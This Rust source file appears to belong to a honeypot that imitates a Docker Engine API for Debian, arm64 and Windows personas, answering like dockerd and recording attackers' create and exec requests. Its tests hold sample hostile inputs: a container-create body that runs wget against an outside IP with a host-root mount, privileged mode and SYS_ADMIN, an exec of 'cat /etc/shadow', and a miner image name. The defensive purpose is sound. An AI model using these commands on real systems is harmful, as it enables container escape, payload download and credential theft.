//! The Docker Engine API's answers and the facts in its requests: pure functions over paths,
//! queries and JSON bodies (fuzzed in `fuzz/fuzz_targets/docker_api.rs`).
//!
//! The engine answers as the persona's Docker ([`Engine`]): Docker CE 26.1 on Debian 12
//! (mixed, linux-server), 24.0 on an arm64 Debian 11 board (iot-router), 24.0 on Windows
//! Server 2019 (windows-server). JSON shapes and header order follow dockerd (Go sorts header
//! names, then adds `Date` and `Content-Length`), so clients and fingerprinting tools see one.

use crate::config::Persona;
use serde_json::{json, Value};

/// The Docker a persona runs.
#[derive(Debug)]
pub struct Engine {
    pub version: &'static str,
    pub api: &'static str,
    pub min_api: &'static str,
    pub git_commit: &'static str,
    pub go: &'static str,
    pub os: &'static str,
    pub arch: &'static str,
    pub kernel: &'static str,
    pub build_time: &'static str,
    pub operating_system: &'static str,
    pub os_version: &'static str,
    pub hostname: &'static str,
    pub ncpu: u32,
    pub mem_total: u64,
}

const DEBIAN12: Engine = Engine {
    version: "26.1.4",
    api: "1.45",
    min_api: "1.24",
    git_commit: "de5c9cf",
    go: "go1.21.11",
    os: "linux",
    arch: "amd64",
    kernel: "6.1.0-21-amd64",
    build_time: "2024-06-05T11:31:42.000000000+00:00",
    operating_system: "Debian GNU/Linux 12 (bookworm)",
    os_version: "12",
    hostname: "docker-01",
    ncpu: 4,
    mem_total: 8_331_218_944,
};

const ARM64_BOARD: Engine = Engine {
    version: "24.0.7",
    api: "1.43",
    min_api: "1.12",
    git_commit: "311b9ff",
    go: "go1.20.10",
    os: "linux",
    arch: "arm64",
    kernel: "5.10.0-26-arm64",
    build_time: "2023-10-26T09:08:02.000000000+00:00",
    operating_system: "Debian GNU/Linux 11 (bullseye)",
    os_version: "11",
    hostname: "gateway",
    ncpu: 4,
    mem_total: 3_980_386_304,
};

const WINDOWS: Engine = Engine {
    version: "24.0.7",
    api: "1.43",
    min_api: "1.24",
    git_commit: "311b9ff",
    go: "go1.20.10",
    os: "windows",
    arch: "amd64",
    kernel: "10.0 17763 (17763.1.amd64fre.rs5_release.180914-1434)",
    build_time: "2023-10-26T09:08:44.000000000+00:00",
    operating_system: "Windows Server 2019 Standard Version 1809 (OS Build 17763.5329)",
    os_version: "10.0 17763 (17763.1.amd64fre.rs5_release.180914-1434)",
    hostname: "WIN-SRV01",
    ncpu: 4,
    mem_total: 8_589_398_016,
};

/// The Docker of `persona`.
pub fn engine(persona: Persona) -> &'static Engine {
    match persona {
        Persona::Mixed | Persona::LinuxServer => &DEBIAN12,
        Persona::IotRouter => &ARM64_BOARD,
        Persona::WindowsServer => &WINDOWS,
    }
}

/// Splits `/v1.41/containers/json` into the API version asked for and the route.
pub fn strip_version(path: &str) -> (Option<(u32, u32)>, &str) {
    let Some(rest) = path.strip_prefix("/v") else { return (None, path) };
    let end = rest.find('/').unwrap_or(rest.len());
    let (ver, route) = rest.split_at(end);
    let mut parts = ver.splitn(2, '.');
    let major = parts.next().and_then(|m| m.parse::<u32>().ok());
    let minor = parts.next().map_or(Some(0), |m| m.parse::<u32>().ok());
    match (major, minor) {
        (Some(a), Some(b)) if !route.is_empty() => (Some((a, b)), route),
        _ => (None, path),
    }
}

/// `1.45` as (1, 45).
pub fn api_version(s: &str) -> (u32, u32) {
    let (a, b) = s.split_once('.').unwrap_or((s, "0"));
    (a.parse().unwrap_or(0), b.parse().unwrap_or(0))
}

/// The query string's pairs (at most 32), URL-decoded.
pub fn parse_query(q: &str) -> Vec<(String, String)> {
    q.split('&')
        .filter(|p| !p.is_empty())
        .take(32)
        .map(|p| {
            let (k, v) = p.split_once('=').unwrap_or((p, ""));
            let d = |s: &str| -> String { super::super::http::url_decode(s).chars().take(1024).collect() };
            (d(k), d(v))
        })
        .collect()
}

/// One query value.
pub fn query<'a>(pairs: &'a [(String, String)], key: &str) -> Option<&'a str> {
    pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
}

/// A JSON string array (`Cmd`, `Entrypoint`) or string as one command line.
fn words(v: &Value) -> String {
    match v {
        Value::Array(items) => items
            .iter()
            .take(64)
            .map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_string))
            .collect::<Vec<_>>()
            .join(" "),
        Value::String(s) => s.clone(),
        _ => String::new(),
    }
}

fn strings(v: &Value) -> Vec<String> {
    match v {
        Value::Array(items) => items.iter().take(32).filter_map(|i| i.as_str().map(str::to_string)).collect(),
        _ => Vec::new(),
    }
}

/// What a `containers/create` body asks for.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Create {
    pub image: String,
    pub cmd: String,
    pub entrypoint: String,
    pub binds: Vec<String>,
    pub privileged: bool,
    pub network_mode: String,
    pub pid_mode: String,
    pub cap_add: Vec<String>,
    pub env: Vec<String>,
}

impl Create {
    /// A host directory mounted at `/`... the classic escape: `-v /:/host`.
    pub fn mounts_host_root(&self) -> bool {
        self.binds.iter().any(|b| b.split(':').next() == Some("/"))
    }

    /// The command the container would run (entrypoint, then cmd).
    pub fn command_line(&self) -> String {
        [self.entrypoint.as_str(), self.cmd.as_str()]
            .iter()
            .filter(|s| !s.is_empty())
            .copied()
            .collect::<Vec<_>>()
            .join(" ")
    }
}

/// Reads a create body (`Image`, `Cmd`, `Entrypoint`, `HostConfig.{Binds, Mounts, Privileged,
/// NetworkMode, PidMode, CapAdd}`, `Env`).
pub fn parse_create(body: &[u8]) -> Option<Create> {
    let v: Value = serde_json::from_slice(body).ok()?;
    let host = v.get("HostConfig").cloned().unwrap_or(Value::Null);
    let mut binds = strings(host.get("Binds").unwrap_or(&Value::Null));
    if let Some(Value::Array(mounts)) = host.get("Mounts") {
        for m in mounts.iter().take(32) {
            let src = m.get("Source").and_then(Value::as_str).unwrap_or("");
            let dst = m.get("Target").and_then(Value::as_str).unwrap_or("");
            binds.push(format!("{src}:{dst}"));
        }
    }
    let s = |v: Option<&Value>| v.and_then(Value::as_str).unwrap_or("").chars().take(1024).collect::<String>();
    Some(Create {
        image: s(v.get("Image")),
        cmd: words(v.get("Cmd").unwrap_or(&Value::Null)),
        entrypoint: words(v.get("Entrypoint").unwrap_or(&Value::Null)),
        binds,
        privileged: host.get("Privileged").and_then(Value::as_bool).unwrap_or(false),
        network_mode: s(host.get("NetworkMode")),
        pid_mode: s(host.get("PidMode")),
        cap_add: strings(host.get("CapAdd").unwrap_or(&Value::Null)),
        env: strings(v.get("Env").unwrap_or(&Value::Null)),
    })
}

/// The command of an `exec` create body (`Cmd`), and whether it asks for a tty.
pub fn parse_exec(body: &[u8]) -> Option<(String, bool)> {
    let v: Value = serde_json::from_slice(body).ok()?;
    Some((words(v.get("Cmd").unwrap_or(&Value::Null)), v.get("Tty").and_then(Value::as_bool).unwrap_or(false)))
}

/// `GET /version`.
pub fn version(e: &Engine) -> Value {
    let mut components = vec![json!({
        "Name": "Engine",
        "Version": e.version,
        "Details": {
            "ApiVersion": e.api, "Arch": e.arch, "BuildTime": e.build_time, "Experimental": "false",
            "GitCommit": e.git_commit, "GoVersion": e.go, "KernelVersion": e.kernel, "MinAPIVersion": e.min_api, "Os": e.os
        }
    })];
    if e.os == "linux" {
        components.push(json!({"Name": "containerd", "Version": "1.6.33", "Details": {"GitCommit": "d2d58213f83a351ca8f528a95fbd145f5654e957"}}));
        components.push(json!({"Name": "runc", "Version": "1.1.12", "Details": {"GitCommit": "v1.1.12-0-g51d5e94"}}));
        components.push(json!({"Name": "docker-init", "Version": "0.19.0", "Details": {"GitCommit": "de40ad0"}}));
    }
    json!({
        "Platform": {"Name": "Docker Engine - Community"},
        "Components": components,
        "Version": e.version,
        "ApiVersion": e.api,
        "MinAPIVersion": e.min_api,
        "GitCommit": e.git_commit,
        "GoVersion": e.go,
        "Os": e.os,
        "Arch": e.arch,
        "KernelVersion": e.kernel,
        "BuildTime": e.build_time
    })
}

/// `GET /info`.
pub fn info(e: &Engine, containers: usize, running: usize, now: &str) -> Value {
    let head = json!({
        "ID": "b3f1a0c2-6d4e-4f8a-9c1b-7e2d5a8f3c90",
        "Containers": containers,
        "ContainersRunning": running,
        "ContainersPaused": 0,
        "ContainersStopped": containers - running.min(containers),
        "Images": 3,
        "Driver": if e.os == "linux" { "overlay2" } else { "windowsfilter" },
        "DriverStatus": if e.os == "linux" { json!([["Backing Filesystem", "extfs"], ["Supports d_type", "true"], ["Using metacopy", "false"], ["Native Overlay Diff", "true"], ["userxattr", "false"]]) } else { json!([]) },
        "Plugins": {"Volume": ["local"], "Network": ["bridge", "host", "ipvlan", "macvlan", "null", "overlay"], "Authorization": null, "Log": ["awslogs", "fluentd", "gcplogs", "gelf", "journald", "json-file", "local", "splunk", "syslog"]},
        "MemoryLimit": true,
        "SwapLimit": false,
        "CpuCfsPeriod": true,
        "CpuCfsQuota": true,
        "CPUShares": true,
        "CPUSet": true,
        "PidsLimit": true,
        "IPv4Forwarding": true,
        "Debug": false,
        "NFd": 42,
        "OomKillDisable": true,
        "NGoroutines": 61,
        "SystemTime": now,
        "LoggingDriver": "json-file",
        "CgroupDriver": "systemd",
        "CgroupVersion": "2",
        "NEventsListener": 0
    });
    // Two literals: one would exceed the json! macro's recursion limit.
    let rest = json!({
        "KernelVersion": e.kernel,
        "OperatingSystem": e.operating_system,
        "OSVersion": e.os_version,
        "OSType": e.os,
        "Architecture": if e.arch == "amd64" { "x86_64" } else { "aarch64" },
        "IndexServerAddress": "https://index.docker.io/v1/",
        "RegistryConfig": {"AllowNondistributableArtifactsCIDRs": null, "AllowNondistributableArtifactsHostnames": null, "InsecureRegistryCIDRs": ["127.0.0.0/8"], "IndexConfigs": {"docker.io": {"Name": "docker.io", "Mirrors": [], "Secure": true, "Official": true}}, "Mirrors": null},
        "NCPU": e.ncpu,
        "MemTotal": e.mem_total,
        "GenericResources": null,
        "DockerRootDir": if e.os == "linux" { "/var/lib/docker" } else { "C:\\ProgramData\\docker" },
        "HttpProxy": "",
        "HttpsProxy": "",
        "NoProxy": "",
        "Name": e.hostname,
        "Labels": [],
        "ExperimentalBuild": false,
        "ServerVersion": e.version,
        "Runtimes": {"io.containerd.runc.v2": {"path": "runc"}, "runc": {"path": "runc"}},
        "DefaultRuntime": "runc",
        "Swarm": {"NodeID": "", "NodeAddr": "", "LocalNodeState": "inactive", "ControlAvailable": false, "Error": "", "RemoteManagers": null},
        "LiveRestoreEnabled": false,
        "Isolation": if e.os == "windows" { "process" } else { "" },
        "InitBinary": "docker-init",
        "ContainerdCommit": {"ID": "d2d58213f83a351ca8f528a95fbd145f5654e957"},
        "RuncCommit": {"ID": "v1.1.12-0-g51d5e94"},
        "InitCommit": {"ID": "de40ad0"},
        "SecurityOptions": if e.os == "linux" { json!(["name=apparmor", "name=seccomp,profile=builtin", "name=cgroupns"]) } else { json!([]) },
        "Warnings": ["WARNING: API is accessible on http://0.0.0.0:2375 without encryption.\n         Access to the remote API is equivalent to root access on the host. Refer\n         to the 'Docker daemon attack surface' section in the documentation for\n         more information: https://docs.docker.com/go/attack-surface/"]
    });
    let mut v = head;
    if let (Some(a), Value::Object(b)) = (v.as_object_mut(), rest) {
        a.extend(b);
    }
    v
}

/// A container as `containers/json` lists it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Container {
    pub id: String,
    pub name: String,
    pub image: String,
    pub command: String,
    pub created: i64,
    pub running: bool,
}

/// The containers the host "has been running for weeks" (attackers look for one to exec into).
pub fn resident(e: &Engine, now_s: i64) -> Vec<Container> {
    let base = now_s - 23 * 86_400;
    let mk = |id: &str, name: &str, image: &str, command: &str, created: i64| Container {
        id: id.to_string(),
        name: name.to_string(),
        image: image.to_string(),
        command: command.to_string(),
        created,
        running: true,
    };
    if e.os == "windows" {
        return vec![mk(
            "5b0d4d8c1e9a7f3b2c6e8d1a4f7b9c0e3d5a2b8f6c1e4d7a9b0c3e5f8a1d2b4c",
            "iis",
            "mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2019",
            "C:\\ServiceMonitor.exe w3svc",
            base,
        )];
    }
    vec![
        mk(
            "3f9a2c7d1e5b8a4f6c0d2e9b7a3c5f1d8e4b6a2c9f7d3e1b5a8c4f6d2e0b9a7c",
            "web",
            "nginx:1.25",
            "/docker-entrypoint.sh nginx -g 'daemon off;'",
            base,
        ),
        mk(
            "8c1e5a9d3f7b2c6e0a4d8f2b6c9e3a7d1f5b9c2e6a0d4f8b3c7e1a5d9f2b6c0e",
            "cache",
            "redis:7.2",
            "docker-entrypoint.sh redis-server",
            base + 60,
        ),
    ]
}

/// `Up 3 weeks`, `Up 5 seconds`, ... as the CLI shows a container's age.
pub fn up_for(seconds: i64) -> String {
    let s = seconds.max(1);
    let (n, unit) = match s {
        0..=59 => (s, "second"),
        60..=3_599 => (s / 60, "minute"),
        3_600..=86_399 => (s / 3_600, "hour"),
        86_400..=1_209_599 => (s / 86_400, "day"),
        _ => (s / 604_800, "week"),
    };
    if n == 1 {
        format!("Up 1 {unit}")
    } else {
        format!("Up {n} {unit}s")
    }
}

/// A name as dockerd makes one up (`adjective_scientist`), from the container id.
pub fn container_name(id: &str) -> String {
    const ADJ: [&str; 8] = ["elated", "festive", "nostalgic", "sharp", "quirky", "vibrant", "focused", "admiring"];
    const NAME: [&str; 8] = ["hopper", "turing", "lovelace", "curie", "darwin", "tesla", "noether", "ritchie"];
    let b = id.as_bytes();
    let pick = |i: usize| b.get(i).map_or(0, |&c| c as usize);
    format!("{}_{}", ADJ[pick(0) % ADJ.len()], NAME[pick(1) % NAME.len()])
}

/// `containers/json` entries.
pub fn list(cs: &[Container], now_s: i64) -> Value {
    Value::Array(
        cs.iter()
            .map(|c| {
                json!({
                    "Id": c.id, "Names": [format!("/{}", c.name)], "Image": c.image, "ImageID": format!("sha256:{}", &c.id.chars().rev().collect::<String>()),
                    "Command": c.command, "Created": c.created, "Ports": [], "Labels": {},
                    "State": if c.running { "running" } else { "created" },
                    "Status": if c.running { up_for(now_s - c.created) } else { "Created".to_string() },
                    "HostConfig": {"NetworkMode": "bridge"},
                    "NetworkSettings": {"Networks": {"bridge": {"IPAddress": "172.17.0.2", "Gateway": "172.17.0.1", "MacAddress": "02:42:ac:11:00:02"}}},
                    "Mounts": []
                })
            })
            .collect(),
    )
}

/// `containers/{id}/json`.
pub fn inspect(c: &Container) -> Value {
    json!({
        "Id": c.id,
        "Created": "2024-06-10T08:14:31.512093284Z",
        "Path": c.command.split(' ').next().unwrap_or(""),
        "Args": c.command.split(' ').skip(1).collect::<Vec<_>>(),
        "State": {"Status": if c.running { "running" } else { "created" }, "Running": c.running, "Paused": false, "Restarting": false, "OOMKilled": false, "Dead": false, "Pid": if c.running { 2841 } else { 0 }, "ExitCode": 0, "Error": "", "StartedAt": "2024-06-10T08:14:32.018822735Z", "FinishedAt": "0001-01-01T00:00:00Z"},
        "Image": format!("sha256:{}", &c.id.chars().rev().collect::<String>()),
        "Name": format!("/{}", c.name),
        "RestartCount": 0,
        "Driver": "overlay2",
        "Platform": "linux",
        "HostConfig": {"NetworkMode": "bridge", "Privileged": false, "Binds": null},
        "Config": {"Hostname": &c.id[..12.min(c.id.len())], "Image": c.image, "Cmd": c.command.split(' ').collect::<Vec<_>>(), "Tty": false, "AttachStdin": false, "AttachStdout": false, "AttachStderr": false, "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]},
        "NetworkSettings": {"IPAddress": "172.17.0.2", "Networks": {"bridge": {"IPAddress": "172.17.0.2"}}},
        "Mounts": []
    })
}

/// `images/json`.
pub fn images(e: &Engine, now_s: i64) -> Value {
    let list: &[(&str, &str, u64)] = if e.os == "windows" {
        &[(
            "mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2019",
            "a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1",
            5_217_654_321,
        )]
    } else {
        &[
            ("nginx:1.25", "a8758716bb6aa4d90071160d27028fe4eaee7ce8166221a97d30440c8eac2be6", 187_693_192),
            ("redis:7.2", "b5ab6e4d1de6a2f5d53e40ec1b2e3c4af7f1a2bd3c9ae5ef1f4f3f59b6f8d8c9", 116_932_448),
        ]
    };
    Value::Array(
        list.iter()
            .map(|(tag, id, size)| {
                json!({"Id": format!("sha256:{id}"), "ParentId": "", "RepoTags": [tag], "RepoDigests": [], "Created": now_s - 40 * 86_400, "Size": size, "SharedSize": -1, "VirtualSize": size, "Labels": null, "Containers": -1})
            })
            .collect(),
    )
}

/// An image reference in full (`alpine` is `docker.io/library/alpine`), as newer clients send
/// it, so every pull of one image is recorded alike.
pub fn full_image(image: &str) -> String {
    let first = image.split('/').next().unwrap_or("");
    let has_registry = image.contains('/') && (first.contains('.') || first.contains(':') || first == "localhost");
    match (has_registry, image.contains('/')) {
        (true, _) => image.to_string(),
        (false, true) => format!("docker.io/{image}"),
        (false, false) => format!("docker.io/library/{image}"),
    }
}

/// The progress lines of a pull that "succeeds" (nothing is fetched).
pub fn pull_progress(image: &str, tag: &str, digest: &str) -> String {
    let full = full_image(image);
    let repo = full.strip_prefix("docker.io/").unwrap_or(&full);
    let layer = &digest[..12.min(digest.len())];
    [
        json!({"status": format!("Pulling from {repo}"), "id": tag}),
        json!({"status": "Pulling fs layer", "progressDetail": {}, "id": layer}),
        json!({"status": "Download complete", "progressDetail": {}, "id": layer}),
        json!({"status": "Pull complete", "progressDetail": {}, "id": layer}),
        json!({"status": format!("Digest: sha256:{digest}")}),
        json!({"status": format!("Status: Downloaded newer image for {image}:{tag}")}),
    ]
    .iter()
    .map(|v| format!("{v}\r\n"))
    .collect()
}

/// `exec/{id}/json`.
pub fn exec_inspect(id: &str, container: &str, cmd: &str) -> Value {
    let mut parts = cmd.split(' ');
    json!({
        "CanRemove": false, "ContainerID": container, "DetachKeys": "", "ExitCode": 0, "ID": id,
        "OpenStderr": true, "OpenStdin": false, "OpenStdout": true, "Running": false, "Pid": 0,
        "ProcessConfig": {"arguments": parts.clone().skip(1).collect::<Vec<_>>(), "entrypoint": parts.next().unwrap_or(""), "privileged": false, "tty": false, "user": ""}
    })
}

/// A docker multiplexed-stream frame (stream 1: stdout).
pub fn stdout_frame(data: &[u8]) -> Vec<u8> {
    let mut v = vec![1, 0, 0, 0];
    v.extend_from_slice(&(data.len() as u32).to_be_bytes());
    v.extend_from_slice(data);
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_queries_and_bodies() {
        assert_eq!(strip_version("/v1.41/containers/json"), (Some((1, 41)), "/containers/json"));
        assert_eq!(strip_version("/version"), (None, "/version"));
        assert_eq!(strip_version("/v1.x/y"), (None, "/v1.x/y"));
        assert_eq!(strip_version("/v1.41"), (None, "/v1.41"));
        let q = parse_query("fromImage=alpine&tag=latest&x");
        assert_eq!(
            (query(&q, "fromImage"), query(&q, "tag"), query(&q, "x")),
            (Some("alpine"), Some("latest"), Some(""))
        );
        let body = br#"{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.7/x"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"NetworkMode":"host","PidMode":"host","CapAdd":["SYS_ADMIN"]}}"#;
        let c = parse_create(body).unwrap();
        assert_eq!(
            (c.image.as_str(), c.cmd.as_str(), c.privileged, c.network_mode.as_str()),
            ("alpine", "sh -c wget http://203.0.113.7/x", true, "host")
        );
        assert!(c.mounts_host_root());
        assert_eq!(c.cap_add, vec!["SYS_ADMIN".to_string()]);
        assert_eq!(parse_exec(br#"{"Cmd":["cat","/etc/shadow"],"Tty":true}"#), Some(("cat /etc/shadow".into(), true)));
        assert_eq!(parse_create(b"{nope"), None);
    }

    #[test]
    fn answers_look_like_dockerd() {
        let e = engine(Persona::Mixed);
        let v = version(e);
        assert_eq!(
            (v["Version"].as_str(), v["ApiVersion"].as_str(), v["Os"].as_str()),
            (Some("26.1.4"), Some("1.45"), Some("linux"))
        );
        let i = info(e, 2, 2, "2024-01-01T00:00:00Z");
        assert_eq!(i["OperatingSystem"], "Debian GNU/Linux 12 (bookworm)");
        let listed = list(&resident(e, 1_700_000_000), 1_700_000_000);
        assert_eq!(listed[0]["Status"], "Up 3 weeks");
        assert_eq!(
            (up_for(1), up_for(125), up_for(7_200)),
            ("Up 1 second".into(), "Up 2 minutes".into(), "Up 2 hours".into())
        );
        assert!(container_name("a0").contains('_'));
        assert!(pull_progress("alpine", "latest", &"ab".repeat(32))
            .contains("Status: Downloaded newer image for alpine:latest"));
        assert_eq!(stdout_frame(b"hi"), b"\x01\0\0\0\0\0\0\x02hi");
        assert_eq!(api_version("1.45"), (1, 45));
        // One story per persona: the OS in /version agrees with the persona.
        assert_eq!((engine(Persona::WindowsServer).os, engine(Persona::IotRouter).arch), ("windows", "arm64"));
        assert_eq!(version(engine(Persona::WindowsServer))["Components"].as_array().map(Vec::len), Some(1));
        assert_eq!(full_image("alpine"), "docker.io/library/alpine");
        assert_eq!(full_image("kinsing/miner"), "docker.io/kinsing/miner");
        assert_eq!(full_image("ghcr.io/x/y"), "ghcr.io/x/y");
        assert_eq!(full_image("docker.io/library/alpine"), "docker.io/library/alpine");
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0xd0c4_2375_0000_0001, 20_000, 160, true) {
            let text = String::from_utf8_lossy(&b);
            let _ = strip_version(&text);
            let _ = api_version(&text);
            let q = parse_query(&text);
            assert!(q.len() <= 32);
            let _ = parse_create(&b);
            let _ = parse_exec(&b);
        }
        let deep = "[".repeat(100_000);
        assert_eq!(parse_create(deep.as_bytes()), None, "serde_json's recursion limit holds");
    }
}
